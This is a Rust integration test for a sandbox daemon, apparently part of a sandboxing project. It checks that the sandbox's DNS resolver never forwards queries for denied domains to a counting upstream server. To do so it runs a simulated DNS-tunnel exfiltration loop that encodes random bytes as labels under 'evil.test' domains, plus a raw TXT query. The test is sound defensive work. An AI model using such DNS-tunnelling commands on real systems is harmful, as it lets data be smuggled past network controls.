//! The sandbox's resolver never forwards what the policy denies: a DNS
//! tunnel (long random labels under a denied domain) reaches no upstream.
//! The upstream here is a counting DNS server the test starts in a network
//! namespace of its own (203.0.113.2:53, TEST-NET-3), given to the daemon
//! with `--egress-dns`. Needs root, iproute2, nftables and python3.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::daemon::TestDaemon;
use common::net::FarNet;
use serde_json::json;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

/// A DNS server that answers every A query with 203.0.113.2 and every
/// AAAA query with 2001:db8::2, and appends each queried name to `log`.
const UPSTREAM: &str = r#"
import socket, struct, sys
log = open(sys.argv[1], "a", buffering=1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("203.0.113.2", 53))
while True:
    data, peer = s.recvfrom(4096)
    i, labels = 12, []
    while data[i]:
        labels.append(data[i + 1:i + 1 + data[i]].decode()); i += 1 + data[i]
    qtype = struct.unpack("!H", data[i + 1:i + 3])[0]
    log.write(".".join(labels) + "\n")
    question = data[12:i + 5]
    answers = 1 if qtype in (1, 28) else 0
    head = data[:2] + b"\x81\x80" + struct.pack("!HHHH", 1, answers, 0, 0)
    if qtype == 28:
        answer = b"\xc0\x0c" + struct.pack("!HHIH", 28, 1, 30, 16) + socket.inet_pton(socket.AF_INET6, "2001:db8::2")
    else:
        answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 30, 4) + socket.inet_aton("203.0.113.2")
    s.sendto(head + question + (answer if answers else b""), peer)
"#;

struct Upstream {
    server: Child,
    log: std::path::PathBuf,
    /// Dropped after the server (fields drop after `Drop::drop`).
    _net: FarNet,
}

impl Upstream {
    fn start() -> Upstream {
        let net = FarNet::new("dn", "203.0.113.1", "203.0.113.2");
        let log = tempfile::tempdir().unwrap().keep().join("queries.log");
        std::fs::write(&log, "").unwrap();
        let server = Command::new("ip")
            .args(["netns", "exec", &net.netns, "python3", "-c", UPSTREAM])
            .arg(&log)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(Duration::from_millis(300));
        Upstream {
            server,
            log,
            _net: net,
        }
    }

    fn queries(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap()
    }
}

impl Drop for Upstream {
    fn drop(&mut self) {
        let _ = self.server.kill();
        let _ = self.server.wait();
    }
}

#[test]
fn a_dns_tunnel_reaches_no_upstream() {
    let upstream = Upstream::start();
    let daemon = TestDaemon::start(&["--egress-dns", "203.0.113.2:53"]);
    let created = daemon.create(json!({"network": {"mode": "allow", "rules": ["site.test"]}}));
    let id = created["id"].as_str().unwrap();

    // The allowed name is resolved through the upstream, with addresses of
    // both kinds.
    let (out, _) = daemon.sh_out(id, "getent ahosts site.test | cut -d' ' -f1 | sort -u");
    assert_eq!(out, "2001:db8::2\n203.0.113.2\n");
    assert!(
        upstream.queries().contains("site.test"),
        "{}",
        upstream.queries()
    );

    // Data smuggled in labels under a denied domain never leaves: every
    // lookup fails in the sandbox and the upstream sees none of them.
    let (out, _) = daemon.sh_out(
        id,
        "for i in 1 2 3 4 5; do \
           label=$(head -c 30 /dev/urandom | od -An -tx1 | tr -d ' \\n' | head -c 60); \
           getent hosts $label.exfil$i.evil.test && echo LEAKED; \
           python3 -c \"import socket; socket.getaddrinfo('$label.tunnel.evil.test', 53)\" 2>/dev/null && echo LEAKED; \
         done; echo end",
    );
    assert_eq!(out, "end\n");
    let seen = upstream.queries();
    assert!(!seen.contains("evil.test"), "forwarded: {seen}");
    // Other record types of an allowed name tell nothing either (no TXT
    // carrying data back), asked of the sandbox's resolver (127.0.0.1, or
    // the guest link's far end on gvisor).
    let (out, _) = daemon.sh_out(
        id,
        "python3 -c \"
import socket, struct
q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04site\\x04test\\x00\\x00\\x10\\x00\\x01'
resolver = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.sendto(q, (resolver, 53)); r = s.recv(512)
print(struct.unpack('!H', r[6:8])[0])
\"",
    );
    assert_eq!(out, "0\n", "a TXT query got answers");
    daemon.delete_all();
}
